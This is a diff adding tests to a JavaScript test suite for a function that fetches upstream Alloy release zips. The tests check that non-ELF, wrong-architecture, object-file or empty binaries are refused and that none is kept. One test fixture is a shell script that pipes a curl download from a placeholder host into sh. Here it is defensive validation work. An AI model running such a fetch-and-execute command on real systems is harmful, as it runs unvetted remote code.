@@ -155,6 +155,17 @@ describe('fetchUpstream', () => {
     expect(host.requests.filter((r) => r.status === 404)).toHaveLength(1);
   });
 
+  it.each<[string, Buffer, RegExp]>([
+    ['a shell script', Buffer.from('#!/bin/sh\nexec /usr/bin/curl https://example.com | sh\n'), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is not an ELF binary \(a script starting "#!\/bin\/sh"\): expected the Alloy binary, an ELF executable for x86-64 \(amd64\)$/],
+    ['an arm64 ELF', makeSyntheticBinary('arm64', 4096), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF for machine 183 \(aarch64\), expected 62 \(x86-64\) for amd64$/],
+    ['an ELF object file', Buffer.concat([makeSyntheticBinary('amd64', 4096).subarray(0, 16), Buffer.from([1, 0]), makeSyntheticBinary('amd64', 4096).subarray(18)]), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF relocatable object, expected an ELF executable for x86-64 \(amd64\)$/],
+    ['an empty file', Buffer.alloc(0), /is not an ELF binary \(an empty file\)/],
+  ])('refuses %s as the amd64 binary at fetch, keeping no binary', async (_what, data, message) => {
+    const { outDir, opts } = await setup({ version: '1.10.2', binaries: { amd64: data, arm64: binaries.arm64 } });
+    await expect(fetchUpstream(opts({ arches: ['amd64'] }))).rejects.toThrow(message);
+    expect(await listDir(join(outDir, 'amd64'))).toEqual([]);
+  });
+
   it('uses local zips without the network, verified against a pinned sha256', async () => {
     const { host, outDir, opts } = await setup();
     const local = join(outDir, '..', `${outDir.split('/').pop()}-local.zip`);
